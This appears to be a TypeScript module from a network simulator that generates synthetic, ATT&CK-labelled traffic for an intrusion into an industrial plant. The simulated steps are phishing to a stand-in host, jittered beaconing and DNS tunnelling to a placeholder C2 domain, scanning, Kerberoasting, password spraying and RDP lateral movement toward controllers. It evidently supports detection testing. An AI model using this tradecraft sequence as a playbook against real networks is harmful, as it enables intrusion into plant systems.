/**
 * The attacker's way in, as traffic: a mail's link is followed, a foothold calls home, names and hosts are searched, logins
 * are stolen and tried, then from desktop to desktop: office, jump host in the DMZ, historian, engineering station. Each
 * step is labelled with its MITRE ATT&CK technique (enterprise on the IT side, ICS in the plant).
 */
import { encodeDns, TYPE } from '../../src/decode/dns/wire.ts';
import * as say from '../network/chatter.ts';
import type { Activity } from '../network/clockwork.ts';
import { connect, identify } from '../network/engineering.ts';
import { AGENT, httpGet, kerberos, remoteDesktop } from '../network/it/remote.ts';
import { OPEN, SmbClient } from '../network/it/smb.ts';
import { IMPLANT, tlsExchange, tlsOpen } from '../network/it/tls.ts';
import { userOf } from '../network/office.ts';
import { MINUTE_US, type Scene, SECOND_US } from '../network/scene.ts';
import { STACK, type Station } from '../network/station.ts';
import type { MoveLabel } from '../world.ts';
import type { Book } from './book.ts';

export interface Intruder {
  readonly scene: Scene;
  readonly book: Book;
  readonly isPatient: boolean;
  /** The office host that is taken over. */
  readonly foothold: Station;
  /** What takes its time takes so much of it: 1, less where somebody wants to see the whole attack soon. */
  readonly pace: number;
  /** The implant calls home until then, microseconds. */
  readonly untilUs: number;
  /** Waits until the attacker acts again: minutes, or hours in working time. */
  pause(weight: number): Activity;
}

const HOME = 'cdn-telemetry-sync.example';

const label = (
  intruder: Intruder,
  technique: string,
  name: string,
  actor: Station,
  target: Station | undefined,
  effect: string,
) =>
  intruder.book.move({
    technique,
    name,
    actorIp: actor.ip,
    targetIp: target?.ip ?? '',
    points: [],
    effect,
    touchesPlant: false,
    isCommand: false,
    variant: intruder.isPatient ? 'patient' : 'noisy',
  } satisfies Omit<MoveLabel, 'id' | 'startUs' | 'endUs'>);

/** The mail's link: a name nobody asked for before, a script by HTTP. */
export function* phish(i: Intruder): Activity {
  const { scene, foothold } = i;
  const { plant } = scene;
  const move = label(
    i,
    'T1566.002',
    'spearphishing link followed',
    foothold,
    plant.internet.evil,
    'none: a file is fetched',
  );
  say.dnsQuery(scene, scene.nowUs, foothold, plant.domainController, 'invoice-portal.example', plant.internet.evil.ip);
  yield 60_000;
  httpGet(scene, scene.nowUs, foothold, plant.internet.evil, {
    host: 'invoice-portal.example',
    path: '/doc/Invoice_20934.ps1',
    agent: AGENT.shell,
    server: 'nginx',
    type: 'application/octet-stream',
    body: scene.octets(i.isPatient ? 18_000 : 48_000),
  });
  yield 2 * SECOND_US;
  i.book.finish(move);
}

/** Calls home by TLS, and by DNS now and then; begins now and goes on until the end of the run. */
export const beacon = (i: Intruder): void => {
  const { scene, foothold } = i;
  const { plant, clock } = scene;
  const move = label(i, 'T1071.001', 'beacon to command and control', foothold, plant.internet.drop, 'none');
  move.endUs = i.untilUs;
  // Jitter as implants have it: 20 % of the period, half of it where the attacker is careful.
  const [periodUs, jitter] = i.isPatient ? [12 * MINUTE_US, 0.5] : [i.pace * MINUTE_US, 0.2];
  let turns = 0;
  const turn = (tsUs: number): void => {
    if (turns % 20 === 0) say.dnsQuery(scene, tsUs, foothold, plant.domainController, HOME, plant.internet.drop.ip);
    const stream = scene.stream(foothold, plant.internet.drop, 443);
    const t = tlsOpen(scene, stream, tsUs + 30_000, IMPLANT, HOME, 30_000);
    stream.close(tlsExchange(scene, stream, t, 180 + scene.random.integer(0, 20), 240, 30_000));
    if (turns % 7 === 3) tunnel(i, tsUs + SECOND_US);
    turns++;
    const nextUs = tsUs + Math.round(periodUs * (1 + jitter * (scene.random.uniform() - 0.5) * 2));
    if (nextUs < i.untilUs) clock.once(nextUs, turn);
  };
  clock.once(scene.nowUs, turn);
};

/** A piece of data as the name of a TXT question. */
const tunnel = (i: Intruder, tsUs: number): void => {
  const { scene, foothold } = i;
  const server = scene.plant.domainController;
  const text = Array.from(scene.octets(28), (o) => (o % 36).toString(36)).join('');
  const questions = [{ name: `${text}.t.${HOME}`, type: TYPE.TXT }];
  const port = foothold.port();
  const id = scene.random.integer(1, 65_535);
  scene.packets.udp(tsUs, foothold, server, port, 53, encodeDns({ id, questions }));
  const reply = Array.from(scene.octets(40), (o) => 97 + (o % 26));
  const answers = [{ name: questions[0]!.name, type: TYPE.TXT, ttl: 1, data: [reply.length, ...reply] }];
  scene.packets.udp(tsUs + 28_000, server, foothold, 53, port, encodeDns({ id, response: true, questions, answers }));
};

/** Who is there: addresses of the own segment, then ports of those who answer. */
export function* scan(i: Intruder, from: Station, hosts: readonly Station[], ports: readonly number[]): Activity {
  const { scene } = i;
  const move = label(
    i,
    from.segment.zone === 'office' ? 'T1046' : 'T0846',
    `scan out of the ${from.segment.zone}`,
    from,
    undefined,
    'none',
  );
  const gapUs = i.isPatient ? 40 * SECOND_US : 20_000;
  const known = new Set(hosts.map((h) => h.ip));
  if (!i.isPatient)
    for (let n = 1; n < 255; n++) {
      const ip = `${from.segment.prefix}.${n}`;
      if (!known.has(ip)) say.arpFor(scene, scene.nowUs, from, ip);
      yield gapUs;
    }
  for (const host of hosts) {
    if (host === from) continue;
    for (const port of ports) {
      const stream = scene.stream(from, host, port);
      if (isServed(host, port)) {
        stream.open(scene.nowUs);
        stream.reset(scene.nowUs + 2_000, false);
      } else if (scene.random.uniform() < 0.5) stream.refused(scene.nowUs);
      else stream.unanswered(scene.nowUs, 1);
      yield gapUs * scene.uniform(0.6, 1.4);
    }
  }
  i.book.finish(move);
}
/** Ports that hosts of a kind listen on. */
const isServed = (host: Station, port: number): boolean => {
  const windows = host.stack === STACK.windows;
  if (port === 445 || port === 3389 || port === 135) return windows;
  if (port === 502) return /plc-(intake|dosing|distribution|steam|energy)/.test(host.name);
  if (port === 102) return /plc-(filter|pasteur|cip|conveyor|air|safety)/.test(host.name);
  if (port === 44_818) return /plc-(blend|filler|capper)/.test(host.name);
  if (port === 4840) return /plc-(cooling|packer)|scada/.test(host.name);
  return false;
};

/** Tickets of services to be cracked, and passwords tried where they do not fit. */
export function* stealLogins(i: Intruder): Activity {
  const { scene, foothold } = i;
  const { plant } = scene;
  const roast = label(
    i,
    'T1558.003',
    'tickets of service accounts asked for (RC4)',
    foothold,
    plant.domainController,
    'none',
  );
  for (const service of ['MSSQLSvc', 'HTTP', 'svc_hist', 'svc_backup', 'TERMSRV', 'exchangeMDB']) {
    kerberos(
      scene,
      scene.nowUs,
      foothold,
      plant.domainController,
      plant.domain,
      userOf(foothold),
      [service, 'srv'],
      23,
    );
    yield (i.isPatient ? 300 : i.pace) * SECOND_US * scene.uniform(0.5, 1.5);
  }
  i.book.finish(roast);
  yield* i.pause(0.3);
  const spray = label(i, 'T1110.003', 'passwords tried on several hosts', foothold, undefined, 'none');
  const victims = [plant.fileServer, plant.domainController, ...plant.office.slice(0, i.isPatient ? 2 : 10)];
  for (const host of victims) {
    if (host === foothold) continue;
    const smb = new SmbClient(scene, foothold, host);
    const t = smb.login(
      smb.open(scene.nowUs),
      { user: 'administrator', domain: 'WORKS', host: foothold.name.toUpperCase() },
      true,
    );
    smb.stream.close(t);
    yield (i.isPatient ? 600 : 3 * i.pace) * SECOND_US;
  }
  i.book.finish(spray);
}

/** From desktop to desktop with a stolen login; the sessions stay open while the attacker works. */
export function* moveIn(i: Intruder): Activity {
  const { scene, foothold } = i;
  const { plant, clock } = scene;
  const minutes = i.isPatient ? 25 : 60 * i.pace;
  const steps: readonly (readonly [Station, Station, string, string, string])[] = [
    [foothold, plant.jumpHost, 'T1021.001', 'remote desktop to the jump host with a stolen session', 'engineer'],
    [plant.jumpHost, plant.historian, 'T0886', 'remote desktop from the jump host to the historian', 'svc_hist'],
    [
      plant.historian,
      plant.engineering,
      'T0866',
      'remote desktop from the historian to the engineering station',
      'engineer',
    ],
  ];
  for (const [from, to, technique, name, user] of steps) {
    const move = label(i, technique, name, from, to, 'none');
    kerberos(scene, scene.nowUs, from, plant.domainController, plant.domain, user, ['TERMSRV', to.name]);
    yield SECOND_US;
    clock.begin(scene.nowUs, () => remoteDesktop(scene, from, to, user, minutes));
    yield i.pace * MINUTE_US;
    if (to === plant.historian) {
      // What the historian knows of the plant is read: project files and tag lists.
      const smb = new SmbClient(scene, plant.jumpHost, plant.historian);
      let t = smb.login(smb.open(scene.nowUs), { user, domain: 'PLANT', host: plant.jumpHost.name.toUpperCase() });
      t = smb.connect(t, `\\\\${plant.historian.name}\\C$`);
      for (const file of ['tags.csv', 'plc-backup.zip', 'network.vsdx']) {
        t = smb.read(smb.create(t, `Projects\\${file}`, OPEN, 30_000), 30_000);
        yield t - scene.nowUs + SECOND_US;
        t = smb.close(scene.nowUs);
      }
      smb.end(t);
    }
    i.book.finish(move);
    yield* i.pause(0.6);
  }
}

/** The engineering station asks controllers who they are: fewer and slower where the attacker is careful. */
export function* lookAround(i: Intruder): Activity {
  const { scene } = i;
  const { engineering } = scene.plant;
  const move = label(i, 'T0888', 'controllers asked for their identity', engineering, undefined, 'none');
  const chosen = i.isPatient ? scene.controllers.filter((_, n) => n % 4 === 0) : scene.controllers;
  for (const controller of chosen) {
    const master = yield* connect(scene, engineering, controller);
    yield* identify(scene, master);
    master.poll(scene.nowUs);
    yield 2 * i.pace * SECOND_US;
    master.stream.close(scene.nowUs);
    yield (i.isPatient ? 10 : 0.1 * i.pace) * MINUTE_US;
  }
  i.book.finish(move);
}

/** Names that the office knows: used by the scan. */
export const reachable = (scene: Scene, zone: Station['segment']['zone']): readonly Station[] => {
  const { plant } = scene;
  const all = [
    ...plant.office,
    plant.domainController,
    plant.fileServer,
    ...plant.printers,
    plant.jumpHost,
    plant.patchServer,
    plant.mirror,
    plant.historian,
    plant.gateway,
    plant.backup,
    plant.scada,
    plant.engineering,
    ...plant.hmis,
    ...plant.controllers.values(),
  ];
  return all.filter((s) => s.segment.zone === zone);
};
